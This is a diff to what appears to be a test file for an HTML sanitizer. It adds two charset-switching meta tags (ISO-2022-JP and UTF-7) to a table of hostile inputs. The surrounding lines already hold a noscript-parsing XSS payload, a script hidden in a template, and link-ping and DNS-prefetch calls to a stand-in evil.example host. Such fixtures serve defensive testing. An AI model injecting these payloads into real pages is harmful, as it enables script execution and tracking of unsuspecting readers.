@@ -67,6 +67,8 @@ MARKDOWN_CASES = {
     "noscript parsing trick": page('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
     "link ping": page('<a href="/en/" ping="https://evil.example/track">x</a>'),
     "template": page("<template><script>alert(1)</script></template>"),
+    "another encoding": page('<meta charset="iso-2022-jp">'),
+    "content-type with another encoding": page('<meta http-equiv="Content-Type" content="text/html; charset=utf-7">'),
     "referrer policy loosened": page('<meta name="referrer" content="unsafe-url">'),
     "dns prefetch of another host": page('<link rel="dns-prefetch" href="//reader-was-here.evil.example">'),
 }
